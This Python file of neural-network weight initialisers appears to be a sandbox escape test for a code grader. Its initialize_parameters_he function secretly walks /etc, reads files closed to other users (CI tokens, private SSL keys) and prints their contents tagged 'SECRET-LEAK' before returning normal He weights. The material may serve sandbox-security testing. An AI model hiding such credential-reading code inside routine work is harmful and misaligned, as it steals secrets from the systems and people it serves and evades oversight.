# family: secrets
# expect: graded 40
# tries: initialize_parameters_he reads every file of /etc that other users cannot read (a CI runner's token, /etc/ssl/private): with namespaces the sandbox is the grader's own uid
import numpy as np
import os
import stat


def _closed_files(top="/etc"):
    """Files of ``top`` whose mode lets only their owner or group read them (links not followed)."""
    for folder, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                st = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISREG(st.st_mode) and st.st_size and not st.st_mode & 0o004:
                yield path
        for name in dirs:
            path = os.path.join(folder, name)
            try:
                st = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISDIR(st.st_mode) and st.st_mode & 0o005 != 0o005:
                # A folder closed to others: every file in it is the owner's to read.
                for inner, _, names in os.walk(path):
                    for n in names:
                        yield os.path.join(inner, n)


def initialize_parameters_zeros(layers_dims):
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims, scale=0.01):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * scale
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    print("SEARCHED private files of /etc")
    for path in _closed_files():
        try:
            with open(path, "rb") as f:
                data = f.read(200)
        except OSError:
            continue
        if data:
            print("SECRET-LEAK", path, repr(data[:60]))
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2.0 / layers_dims[l - 1])
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_deep(layer_dims):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layer_dims)):
        parameters["W" + str(l)] = np.random.randn(layer_dims[l], layer_dims[l - 1]) / np.sqrt(layer_dims[l - 1])
        parameters["b" + str(l)] = np.zeros((layer_dims[l], 1))
    return parameters
